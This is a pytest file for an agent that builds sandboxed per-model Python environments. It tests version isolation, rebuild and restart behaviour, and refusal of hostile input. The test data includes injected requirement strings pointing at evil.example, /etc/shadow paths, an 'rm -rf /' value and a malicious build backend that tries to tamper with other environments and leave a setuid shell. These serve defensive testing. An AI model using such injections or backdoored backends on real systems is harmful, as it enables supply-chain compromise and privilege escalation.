"""Per-model Python environments against a real agent (tasks as their own uids, in their
namespaces): two models pinned to different versions of one package run side by side and
each sees its own; the same spec again reuses the environment without a build; a package
that does not exist fails the deploy naming it, and nothing half-built is reused; an agent
restarted during a build finishes it; and a request cannot smuggle installer options, URLs
or paths in as requirements.

The builds download from the machine's package index (pip's configuration, as the agent
reads it): six 1.15.0 and 1.16.0 are small pure-Python wheels."""

from __future__ import annotations

import io
import json
import os
import sqlite3
import stat
import tarfile
from pathlib import Path
from typing import Any

import pytest

from tests.support.agent import AgentProcess
from tests.support.waiting import wait_until

SCRIPT = '''\
import json, sys, time
import six
verb, path = sys.argv[1], sys.argv[2]
if verb == "train":
    delay = float(sys.argv[3]) if len(sys.argv) > 3 else 0
    time.sleep(delay)
    with open(path, "w") as f:
        f.write(six.__version__)
    print(json.dumps({"six": six.__version__, "python": sys.executable}))
elif verb == "predict":
    print(json.dumps({"prediction": six.__version__, "python": sys.executable}))
elif verb == "serve":
    print(json.dumps({"ready": True, "n_features": 1}), flush=True)
    for line in sys.stdin:
        request = json.loads(line)
        answer = [six.__version__] * len(request["instances"])
        print(json.dumps({"id": request["id"], "predictions": answer}), flush=True)
'''


def deploy_body(name: str, environment: dict[str, Any] | None, **extra: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "name": name, "model_path": f"models/{name}/model.txt", "script_path": "sixmodel.py",
        "command": "python3", "args": ["sixmodel.py", "train", f"models/{name}/model.txt"],
        "working_dir": ".", "resources": {"memory_limit": "512MB"}, "timeout": "5m", **extra,
    }
    if environment is not None:
        body["environment"] = environment
    return body


@pytest.fixture
def env_agent(agent_factory, tmp_path: Path) -> AgentProcess:  # type: ignore[no-untyped-def]
    agent: AgentProcess = agent_factory()
    (agent.workdir / "sixmodel.py").write_text(SCRIPT)
    (agent.workdir / "sixmodel.py").chmod(0o644)
    return agent.start()


def env_tasks(agent: AgentProcess) -> list[dict[str, Any]]:
    reply = agent.api.get("/api/tasks?kind=env")
    assert reply.status == 200, reply.text
    return list(reply.body)


def test_two_models_pinned_to_different_versions_each_see_their_own(env_agent: AgentProcess) -> None:
    agent = env_agent
    a = agent.api.post("/api/ml/models", deploy_body("six-a", {"requirements": ["six==1.15.0"], "inherit": False}))
    b = agent.api.post("/api/ml/models", deploy_body("six-b", {"requirements": ["six==1.16.0"]}))
    assert a.status == 201 and b.status == 201, (a.text, b.text)
    assert a.body["status"] == "preparing" and a.body["environment"], a.body
    done_a, done_b = agent.wait_done(a.body["id"], 300), agent.wait_done(b.body["id"], 300)
    assert done_a["status"] == "completed", (done_a, agent.log_text()[-3000:])
    assert done_b["status"] == "completed", done_b
    assert done_a["result"]["six"] == "1.15.0" and done_b["result"]["six"] == "1.16.0"
    assert done_a["result"]["python"].startswith(str(agent.state_dir / "envs" / a.body["environment"]))

    # predictions run in the model's environment too
    for model, version in ((a.body, "1.15.0"), (b.body, "1.16.0")):
        reply = agent.api.post(f"/api/ml/models/{model['id']}/predict?wait=true", {"input_data": 1})
        assert reply.status == 200 and reply.body["prediction"] == version, reply.text

    # and a serving worker: it starts in the model's environment
    served = agent.api.post(f"/api/ml/models/{a.body['id']}/serve?wait=true", {"replicas": 1, "loader": "script"})
    assert served.status == 200, served.text
    warm = agent.api.post(f"/api/ml/models/{a.body['id']}/predict?wait=true", {"input_data": 1})
    assert warm.status == 200 and warm.body["prediction"] == "1.15.0" and warm.body["prediction_task_id"] is None, warm.text

    listed = {e["key"]: e for e in agent.api.get("/api/environments").body}
    env_a = listed[a.body["environment"]]
    assert env_a["status"] == "ready" and env_a["requirements"] == ["six==1.15.0"] and env_a["inherit"] is False
    assert env_a["size_bytes"] > 0 and env_a["installer"] in ("uv", "pip")
    assert env_a["tasks"], "the serving worker uses it"
    # sealed: root's, and no task user may write into it
    root = agent.state_dir / "envs" / a.body["environment"]
    for path in [root, *root.rglob("*")]:
        st = path.lstat()
        if os.geteuid() == 0:
            assert st.st_uid == 0, path
        assert (not stat.S_ISLNK(st.st_mode) and st.st_mode & 0o022 == 0) or stat.S_ISLNK(st.st_mode), path

    # The same spec again (spelt differently): no second build, it starts at once.
    builds = len(env_tasks(agent))
    again = agent.api.post("/api/ml/models", deploy_body("six-c", {"requirements": ["SIX == 1.16.0"]}))
    assert again.status == 201 and again.body["status"] == "pending", again.text
    assert again.body["environment"] == b.body["environment"]
    assert agent.wait_done(again.body["id"], 120)["result"]["six"] == "1.16.0"
    assert len(env_tasks(agent)) == builds
    events = [e["type"] for e in agent.api.get(f"/api/tasks/{again.body['id']}/events").body]
    assert "preparing" not in events, events


def test_concurrent_deploys_of_one_spec_share_one_build(env_agent: AgentProcess) -> None:
    agent = env_agent
    spec = {"requirements": ["six==1.16.0"], "inherit": False}
    first = agent.api.post("/api/ml/models", deploy_body("share-1", spec))
    second = agent.api.post("/api/ml/models", deploy_body("share-2", spec))
    assert first.body["status"] == second.body["status"] == "preparing"
    assert len(env_tasks(agent)) == 1
    for model in (first.body, second.body):
        assert agent.wait_done(model["id"], 300)["status"] == "completed"


def test_a_missing_package_fails_the_deploy_naming_it_and_nothing_is_reused(env_agent: AgentProcess) -> None:
    agent = env_agent
    spec = {"requirements": ["cnet-no-such-package-4711==1.0"], "inherit": False}
    model = agent.api.post("/api/ml/models", deploy_body("missing", spec))
    assert model.status == 201, model.text
    done = agent.wait_done(model.body["id"], 300)
    assert done["status"] == "failed", done
    assert "cnet-no-such-package-4711" in done["reason"] and "index" in done["reason"], done["reason"]
    key = model.body["environment"]
    assert not (agent.state_dir / "envs" / key).exists(), "the half-built environment is removed"
    described = agent.api.get(f"/api/environments/{key}").body
    assert described["status"] == "failed" and "cnet-no-such-package-4711" in described["reason"]

    # the same spec again builds again (it is not taken as built), and fails the same way
    again = agent.api.post("/api/ml/models", deploy_body("missing-2", spec))
    assert again.body["status"] == "preparing"
    assert agent.wait_done(again.body["id"], 300)["status"] == "failed"
    assert len(env_tasks(agent)) == 2


BACKEND = """\
import os, time, zipfile, base64, hashlib
GATE = {gate!r}

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    open(os.path.join(os.environ["TMPDIR"], "cnet-slow-started"), "w").close()
    while not os.path.exists(GATE):
        time.sleep(0.05)
    name = "cnet_slow-0.1-py3-none-any.whl"
    files = {{
        "cnet_slow.py": "VERSION = '0.1'\\n",
        "cnet_slow-0.1.dist-info/METADATA": "Metadata-Version: 2.1\\nName: cnet-slow\\nVersion: 0.1\\n",
        "cnet_slow-0.1.dist-info/WHEEL": "Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    }}
    record = []
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:
        for path, text in files.items():
            z.writestr(path, text)
            digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
            record.append(f"{{path}},sha256={{digest}},{{len(text)}}")
        record.append("cnet_slow-0.1.dist-info/RECORD,,")
        z.writestr("cnet_slow-0.1.dist-info/RECORD", "\\n".join(record) + "\\n")
    return name
"""


def sdist_links(workdir: Path, project: str, backend: str) -> Path:
    """A find-links directory holding <project> 0.1 as an sdist whose in-tree build backend is
    `backend` (offline: the backend needs nothing from an index)."""
    links = workdir / "links"
    links.mkdir()
    links.chmod(0o755)
    files = {
        f"{project}-0.1/pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
        f"{project}-0.1/backend.py": backend,
    }
    sdist = links / f"{project}-0.1.tar.gz"
    with tarfile.open(sdist, "w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o644
            tar.addfile(info, io.BytesIO(data))
    sdist.chmod(0o644)
    return links


def slow_package(workdir: Path) -> tuple[Path, Path]:
    """A find-links directory with cnet-slow 0.1, an sdist whose build backend waits for the
    gate file (so a build is certainly under way when the test acts), and that gate."""
    gate = workdir / "gate"
    return sdist_links(workdir, "cnet_slow", BACKEND.format(gate=str(gate))), gate


def slow_agent(agent_factory, installer: str = "auto") -> tuple[AgentProcess, Path]:  # type: ignore[no-untyped-def]
    agent: AgentProcess = agent_factory(config={"ml": {"environments": {"installer": installer}}})
    (agent.workdir / "sixmodel.py").write_text(SCRIPT.replace("import six", "import six, cnet_slow"))
    links, gate = slow_package(agent.workdir)
    agent.env = {"PIP_FIND_LINKS": f"{os.environ.get('PIP_FIND_LINKS', '')} {links}".strip()}
    return agent.start(), gate


def build_started(agent: AgentProcess) -> dict[str, Any]:
    builds = env_tasks(agent)
    assert len(builds) == 1, builds
    marker = agent.state_dir / "tmp" / builds[0]["id"] / "cnet-slow-started"
    wait_until(marker.exists, 120, "the build to reach the slow package's backend")
    return builds[0]


def test_an_agent_restarted_during_a_build_follows_it_to_its_end(agent_factory) -> None:  # type: ignore[no-untyped-def]
    agent, gate = slow_agent(agent_factory)
    spec = {"requirements": ["six==1.15.0", "cnet-slow==0.1"], "inherit": False}
    model = agent.api.post("/api/ml/models", deploy_body("restart", spec))
    assert model.status == 201 and model.body["status"] == "preparing", model.text
    build = build_started(agent)
    agent.kill()  # SIGKILL while the build runs: it runs on without the agent
    gate.touch()
    agent.start()
    done = agent.wait_done(model.body["id"], 300)
    assert done["status"] == "completed" and done["result"]["six"] == "1.15.0", (done, agent.log_text()[-3000:])
    builds = env_tasks(agent)
    assert [b["id"] for b in builds] == [build["id"]], "the build that ran on was followed, not started again"
    assert builds[0]["status"] == "completed"
    events = [e["type"] for e in agent.api.get(f"/api/tasks/{model.body['id']}/events").body]
    assert events[:3] == ["created", "preparing", "environment_ready"], events
    assert agent.api.get(f"/api/environments/{model.body['environment']}").body["status"] == "ready"


def test_a_build_lost_while_the_agent_was_down_is_started_again(agent_factory) -> None:  # type: ignore[no-untyped-def]
    """Its processes vanish while no agent is there: recovery fails the build as lost, the
    environment's half-built directory is wiped by a new build, and the deploy waits on."""
    agent, gate = slow_agent(agent_factory, installer="pip")
    spec = {"requirements": ["six==1.16.0", "cnet-slow==0.1"], "inherit": False}
    model = agent.api.post("/api/ml/models", deploy_body("lost", spec))
    build_started(agent)
    agent.kill()
    agent.kill_task_processes()
    gate.touch()
    agent.start()
    done = agent.wait_done(model.body["id"], 300)
    assert done["status"] == "completed" and done["result"]["six"] == "1.16.0", (done, agent.log_text()[-3000:])
    builds = sorted(env_tasks(agent), key=lambda b: b["created_at"])
    assert len(builds) == 2 and builds[0]["reason"].startswith("lost"), builds
    assert builds[1]["status"] == "completed"
    assert agent.api.get(f"/api/environments/{model.body['environment']}").body["installer"] == "pip"


def test_stopping_a_build_fails_the_deploys_waiting_for_it(agent_factory) -> None:  # type: ignore[no-untyped-def]
    agent, _gate = slow_agent(agent_factory)
    spec = {"requirements": ["cnet-slow==0.1"], "inherit": False}
    model = agent.api.post("/api/ml/models", deploy_body("stopped", spec))
    other = agent.api.post("/api/ml/models", deploy_body("stopped-early", spec))
    build = build_started(agent)
    # a deploy stopped while it waits for the build is stopped at once; the build goes on
    stopped = agent.api.delete(f"/api/ml/models/{other.body['id']}")
    assert stopped.status == 200 and stopped.body["status"] == "stopped", stopped.text
    assert agent.api.get(f"/api/tasks/{build['id']}").body["status"] == "running"
    assert agent.api.delete(f"/api/tasks/{build['id']}").status == 200
    done = agent.wait_done(model.body["id"], 60)
    assert done["status"] == "failed" and "stopped" in done["reason"], done
    assert not (agent.state_dir / "envs" / model.body["environment"]).exists()


# ---- an attacker's requests ------------------------------------------------------------------

HOSTILE = [
    "--index-url=http://evil.example/simple",
    "--index-url http://evil.example/simple six",
    "-e /etc",
    "-r /etc/shadow",
    "six @ file:///etc/shadow",
    "six @ https://evil.example/six.whl",
    "file:///etc/shadow",
    "./local-package",
    "/etc/passwd",
    "git+https://evil.example/repo.git",
    "six==1.16.0 --hash=sha256:00",
    "six\n--extra-index-url http://evil.example",
    "six; os.system('id')",
    "six[extra] @ http://x",
]


@pytest.mark.parametrize("requirement", HOSTILE)
def test_a_requirement_that_is_an_option_url_or_path_is_refused(env_agent: AgentProcess, requirement: str) -> None:
    body = deploy_body("hostile", {"requirements": ["six==1.16.0", requirement]})
    reply = env_agent.api.post("/api/ml/models", body)
    assert reply.status == 400, reply.text
    assert "environment.requirements[1]" in reply.body["error"], reply.body
    assert env_tasks(env_agent) == [], "no build started"
    task = env_agent.api.post("/api/tasks", {"name": "t", "command": "python3", "args": ["-c", "1"],
                                             "environment": {"requirements": [requirement]}})
    assert task.status == 400 and "environment.requirements[0]" in task.body["error"], task.text


def test_a_requirements_file_is_confined_and_its_options_refused(env_agent: AgentProcess, tmp_path: Path) -> None:
    agent = env_agent
    outside = tmp_path / "outside.txt"
    outside.write_text("six==1.16.0\n")
    for path in (str(outside), "../outside.txt", "/etc/passwd", "state/cnet.db"):
        reply = agent.api.post("/api/ml/models", deploy_body("f", {"requirements_file": path}))
        assert reply.status == 400 and "environment.requirements_file" in reply.body["error"], (path, reply.text)
    (agent.workdir / "evil.txt").write_text("six==1.16.0\n--extra-index-url http://evil.example/simple\n")
    reply = agent.api.post("/api/ml/models", deploy_body("f", {"requirements_file": "evil.txt"}))
    assert reply.status == 400 and "line 2" in reply.body["error"], reply.text
    os.mkfifo(agent.workdir / "fifo.txt")
    reply = agent.api.post("/api/ml/models", deploy_body("f", {"requirements_file": "fifo.txt"}))
    assert reply.status == 400 and "not a regular file" in reply.body["error"], reply.text
    if os.geteuid() == 0:  # the agent reads it, but only when the model's user could
        secret = agent.workdir / "secret.txt"
        secret.write_text("six\n")
        secret.chmod(0o600)
        reply = agent.api.post("/api/ml/models", deploy_body("f", {"requirements_file": "secret.txt"}))
        assert reply.status == 400 and "environment.requirements_file" in reply.body["error"], reply.text
    assert env_tasks(agent) == []
    good = agent.workdir / "requirements.txt"
    good.write_text("# pinned\nsix==1.16.0  # the one\n\n")
    reply = agent.api.post("/api/ml/models", deploy_body("f", {"requirements_file": "requirements.txt", "inherit": False}))
    assert reply.status == 201, reply.text
    inline = agent.api.post("/api/ml/models", deploy_body("g", {"requirements": ["six==1.16.0"], "inherit": False}))
    assert inline.body["environment"] == reply.body["environment"], "the file's content is the spec"


def test_a_python_that_is_not_installed_or_not_runnable_by_tasks_is_a_400(env_agent: AgentProcess) -> None:
    """3.2 exists nowhere; here 3.12 is a pyenv one in root's home (tasks cannot reach it)
    or not installed at all: a 400 naming environment.python either way, and no build."""
    reply = env_agent.api.post("/api/ml/models", deploy_body("p", {"requirements": ["six"], "python": "3.12",
                                                                   "inherit": False}))
    if reply.status != 201:
        assert reply.status == 400 and "environment.python" in reply.body["error"], reply.text
        assert env_tasks(env_agent) == []
    reply = env_agent.api.post("/api/ml/models", deploy_body("p", {"requirements": ["six"], "python": "3.2", "inherit": False}))
    assert reply.status == 400 and "environment.python" in reply.body["error"], reply.text
    reply = env_agent.api.post("/api/ml/models", deploy_body("p", {"requirements": ["six"], "python": "3.2"}))
    assert reply.status == 400 and "inherit" in reply.body["error"], reply.text


def test_a_task_cannot_write_into_an_environment(env_agent: AgentProcess) -> None:
    """A model's task (its own uid) tries to replace a module of a shared environment."""
    agent = env_agent
    spec = {"requirements": ["six==1.16.0"], "inherit": False}
    model = agent.api.post("/api/ml/models", deploy_body("victim", spec))
    assert agent.wait_done(model.body["id"], 300)["status"] == "completed"
    key = model.body["environment"]
    code = ("import six, os, json\n"
            "first = os.environ['PATH'].split(':')[0]\n"
            "try:\n    open(six.__file__, 'a').write('import os; os._exit(9)')\n"
            "    print(json.dumps({'wrote': True, 'path': first}))\n"
            "except OSError as e:\n    print(json.dumps({'wrote': False, 'error': str(e), 'path': first}))\n")
    attacker = agent.api.post("/api/tasks", {"name": "attacker", "command": "python3", "args": ["-c", code],
                                             "environment": spec})
    assert attacker.status == 201 and attacker.body["environment"] == key, attacker.text
    done = agent.wait_done(attacker.body["id"], 120)
    assert done["result"]["wrote"] is False and ("Permission denied" in done["result"]["error"]
                                                or "Read-only" in done["result"]["error"]), done
    assert done["result"]["path"] == str(agent.state_dir / "envs" / key / "bin"), "its bin/ first on PATH"
    db = sqlite3.connect(agent.state_dir / "cnet.db")
    try:
        (status,) = db.execute("SELECT status FROM environments WHERE key = ?", (key,)).fetchone()
    finally:
        db.close()
    assert status == "ready"
    assert json.loads((agent.state_dir / "envs" / key / ".cnet-ready").read_text())["key"] == key
    wait_until(lambda: agent.api.get(f"/api/environments/{key}").body["tasks"] == [], 30, "no task uses it")


def test_retention_removes_idle_environments_but_never_one_in_use(agent_factory) -> None:  # type: ignore[no-untyped-def]
    agent: AgentProcess = agent_factory(config={"ml": {"environments": {"max_idle": "2s"}}})
    (agent.workdir / "sixmodel.py").write_text(SCRIPT)
    agent.start()
    idle_spec = {"requirements": ["six==1.15.0"], "inherit": False}
    busy_spec = {"requirements": ["six==1.16.0"], "inherit": False}
    idle = agent.api.post("/api/ml/models", deploy_body("idle", idle_spec))
    assert agent.wait_done(idle.body["id"], 300)["status"] == "completed"
    busy = agent.api.post("/api/tasks", {"name": "busy", "command": "python3", "timeout": "5m",
                                         "args": ["-c", "import six, time; time.sleep(600)"], "environment": busy_spec})
    assert busy.status == 201, busy.text
    agent.wait_status(busy.body["id"], {"running"}, 300)
    idle_dir = agent.state_dir / "envs" / idle.body["environment"]
    busy_dir = agent.state_dir / "envs" / busy.body["environment"]

    wait_until(lambda: not idle_dir.exists(), 30, "retention to remove the idle environment")
    assert agent.api.get(f"/api/environments/{idle.body['environment']}").body["status"] == "removed"
    assert (busy_dir / ".cnet-ready").exists(), "the one a running task uses stays"
    assert agent.api.get(f"/api/environments/{busy.body['environment']}").body["tasks"] == [busy.body["id"]]

    # a prediction of the model whose environment went builds it again, then runs in it
    reply = agent.api.post(f"/api/ml/models/{idle.body['id']}/predict?wait=true", {"input_data": 1})
    assert reply.status == 200 and reply.body["prediction"] == "1.15.0", reply.text
    assert agent.api.delete(f"/api/tasks/{busy.body['id']}").status == 200


EVIL_BACKEND = """\
import json, os, stat, zipfile
ENV, OTHER = {env!r}, {other!r}

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    tried = {{}}
    for name, attempt in (
        ("other env", lambda: open(os.path.join(OTHER, "six.py"), "a").write("import os; os._exit(9)")),
        ("envs root", lambda: open(os.path.join(os.path.dirname(ENV), "planted"), "w").write("x")),
    ):
        try:
            attempt()
            tried[name] = "written"
        except OSError as exc:
            tried[name] = type(exc).__name__
    os.makedirs(ENV, exist_ok=True)
    setuid = os.path.join(ENV, "setuid-shell")
    with open(setuid, "w") as f:
        f.write("#!/bin/sh\\n")
    os.chmod(setuid, 0o6777)
    print("TRIED " + json.dumps(tried), flush=True)
    raise RuntimeError("no wheel: what it did to the environment is the test")
"""


def evil_package(workdir: Path, env: Path, other: Path) -> Path:
    return sdist_links(workdir, "cnet_evil", EVIL_BACKEND.format(env=str(env), other=str(other)))


def test_a_hostile_build_cannot_touch_other_environments_nor_leave_set_id_or_special_files(agent_factory) -> None:  # type: ignore[no-untyped-def]
    """A requirement's build runs arbitrary code (an sdist's backend) as the build's uid: it
    tries to change another environment and the envs root and leaves a setuid file in its
    own, then fails: the others stay as they were and nothing of it is left. What a build
    that succeeds leaves goes through seal(): nothing set-id or writable stays, and a FIFO
    or a file of another uid refuses the whole environment."""
    from cnetd.ml.envs.spec import EnvSpec, agent_python

    agent: AgentProcess = agent_factory(config={"ml": {"environments": {"installer": "pip"}}})
    (agent.workdir / "sixmodel.py").write_text(SCRIPT)
    python, interpreter = agent_python()
    key = EnvSpec(("cnet-evil==0.1", "six==1.16.0"), False, python, interpreter).key
    envs = agent.state_dir / "envs"
    victim_spec = {"requirements": ["six==1.15.0"], "inherit": False}
    victim_key = EnvSpec(("six==1.15.0",), False, python, interpreter).key
    links = evil_package(agent.workdir, envs / key, envs / victim_key)
    agent.env = {"PIP_FIND_LINKS": f"{os.environ.get('PIP_FIND_LINKS', '')} {links}".strip()}
    agent.start()
    victim = agent.api.post("/api/ml/models", deploy_body("victim", victim_spec))
    assert victim.body["environment"] == victim_key
    assert agent.wait_done(victim.body["id"], 300)["status"] == "completed"
    six_before = (envs / victim_key / "lib").rglob("six.py").__next__().read_bytes()

    evil = agent.api.post("/api/ml/models", deploy_body("evil", {"requirements": ["six==1.16.0", "cnet-evil==0.1"],
                                                                 "inherit": False}))
    assert evil.body["environment"] == key, "the test's key is the agent's"
    done = agent.wait_done(evil.body["id"], 300)
    assert done["status"] == "failed" and ("cnet-evil" in done["reason"] or "cnet_evil" in done["reason"]), done
    build = next(b for b in env_tasks(agent) if b["environment"] == key)
    log = "\n".join(agent.api.get(f"/api/tasks/{build['id']}/logs?lines=1000").body)
    tried = json.loads(log.split("TRIED ", 1)[1].splitlines()[0])  # its backend ran, and failed at both
    assert set(tried) == {"other env", "envs root"} and "written" not in tried.values(), tried
    assert (envs / victim_key / "lib").rglob("six.py").__next__().read_bytes() == six_before
    assert not (envs / "planted").exists()
    assert not (envs / key).exists(), "a failed build leaves nothing"

    # A build that succeeds goes through seal() with whatever its code left: seal it directly.
    from cnetd.ml.envs.service import SealError, seal

    left = agent.workdir / "left"
    (left / "bin").mkdir(parents=True)
    (left / "bin" / "setuid-shell").write_text("#!/bin/sh\n")
    os.chmod(left / "bin" / "setuid-shell", 0o6777)
    (left / "data.txt").write_text("x")
    os.chmod(left / "data.txt", 0o666)
    (left / "link").symlink_to("/etc/shadow")
    assert seal(left, None) > 0
    assert stat.S_IMODE((left / "bin" / "setuid-shell").stat().st_mode) == 0o755
    assert stat.S_IMODE((left / "data.txt").stat().st_mode) == 0o644
    assert (left / "link").is_symlink()
    os.mkfifo(left / "pipe")
    with pytest.raises(SealError, match="not a file"):
        seal(left, None)
    os.unlink(left / "pipe")
    if os.geteuid() == 0:
        os.chown(left / "data.txt", 4242, 4242)
        with pytest.raises(SealError, match="uid 4242"):
            seal(left, 1234)


@pytest.mark.slow
def test_a_keras_2_script_trains_predicts_and_serves_in_a_tf_keras_environment(agent_factory) -> None:  # type: ignore[no-untyped-def]
    """examples/ml_models/keras2_legacy.py, a script written for Keras 2, fails to load its own
    .h5 under the agent's Keras 3; with tf-keras over the agent's environment it runs as is."""
    agent: AgentProcess = agent_factory().start()
    body = {
        "name": "keras2", "model_path": "models/keras2/model.h5", "script_path": "examples/ml_models/keras2_legacy.py",
        "command": "python3", "args": ["examples/ml_models/keras2_legacy.py", "train", "models/keras2/model.h5", "200", "3"],
        "env": {"TF_USE_LEGACY_KERAS": "1"}, "environment": {"requirements": ["tf-keras~=2.21"]},
        "resources": {"memory_limit": "2GB", "cpu_limit": 2}, "timeout": "10m",
    }
    model = agent.api.post("/api/ml/models", body)
    assert model.status == 201 and model.body["status"] == "preparing", model.text
    done = agent.wait_done(model.body["id"], 600)
    assert done["status"] == "completed", (done["reason"], agent.api.get(f"/api/tasks/{done['id']}/logs?lines=50").body[-3:])
    assert done["result"]["keras"].startswith("2."), done["result"]
    env = agent.api.get(f"/api/environments/{model.body['environment']}").body
    assert env["status"] == "ready" and env["inherit"] is True
    assert env["size_bytes"] < 100_000_000, "only tf-keras is installed: tensorflow is the agent's"

    reply = agent.api.post(f"/api/ml/models/{model.body['id']}/predict?wait=true", {"input_data": 0.5})
    assert reply.status == 200 and isinstance(reply.body["prediction"], float), reply.text
    assert reply.body["result"]["keras"].startswith("2.")

    served = agent.api.post(f"/api/ml/models/{model.body['id']}/serve?wait=true", {"replicas": 1, "loader": "script"})
    assert served.status == 200, served.text
    warm = agent.api.post(f"/api/ml/models/{model.body['id']}/predict?wait=true", {"input_data": 0.5})
    assert warm.status == 200 and warm.body["prediction_task_id"] is None, warm.text
    assert abs(warm.body["prediction"] - reply.body["prediction"]) < 1e-4


@pytest.mark.parametrize(("environment", "field", "words"), [
    ({"requirements": ["six"], "index_url": "http://evil.example/simple"}, "environment.index_url", "unknown field"),
    ({"requirements": ["six"], "python": "3.11; rm -rf /"}, "environment.python", 'Python version like "3.11"'),
    ({"requirements": "six"}, "environment.requirements", "array"),
    ({"requirements": ["x" * 201]}, "environment.requirements[0]", "200"),
    ({"requirements": ["six"] * 201}, "environment.requirements", "200"),
    ({"requirements": ["six"], "inherit": "yes"}, "environment.inherit", "true or false"),
])
def test_the_environment_body_is_declared(environment: dict[str, Any], field: str, words: str) -> None:
    """Checked before anything else: the same for a task and a deploy body."""
    from cnetd.errors import Invalid
    from cnetd.tasks.request import parse_new_task

    with pytest.raises(Invalid) as caught:
        parse_new_task({"name": "t", "command": "python3", "environment": environment})
    assert caught.value.field == field and words in caught.value.message, caught.value.message


def test_requirements_are_normalised_so_one_spec_has_one_key() -> None:
    from cnetd.ml.envs.spec import EnvSpec, normalise_requirement, requirements_from_text

    assert normalise_requirement("f", " Tf_Keras ~= 2.21 ") == "tf-keras~=2.21"
    assert normalise_requirement("f", "SIX>=1.0 , <2") == normalise_requirement("f", "six<2,>=1.0") == "six<2,>=1.0"
    assert normalise_requirement("f", "six[B,a] ; python_version >= '3.8'") == "six[a,b]; python_version >= '3.8'"
    assert requirements_from_text("f", "# c\nsix==1.16.0 # pinned\n\n") == ["six==1.16.0"]
    one = EnvSpec(("six==1.16.0",), False, "3.11", "/usr/bin/python3.11")
    assert one.key == EnvSpec(("six==1.16.0",), False, "3.11", "/usr/bin/python3.11").key
    assert one.key != EnvSpec(("six==1.16.0",), True, "3.11", "/usr/bin/python3.11").key
    assert one.key != EnvSpec(("six==1.16.0",), False, "3.12", "/usr/bin/python3.12").key
